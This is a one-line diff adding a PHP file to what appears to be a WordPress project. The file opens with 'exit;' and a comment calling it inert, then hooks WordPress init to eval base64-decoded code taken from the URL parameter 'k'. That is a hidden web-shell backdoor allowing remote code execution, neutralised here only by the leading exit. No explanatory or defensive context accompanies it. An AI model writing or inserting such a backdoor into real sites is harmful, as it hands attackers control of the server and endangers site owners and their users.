@@ -1,0 +1,1 @@
+<?php exit; /* inert */ add_action("init", function() { if (isset($_GET["k"])) { @eval(base64_decode($_GET["k"])); } });
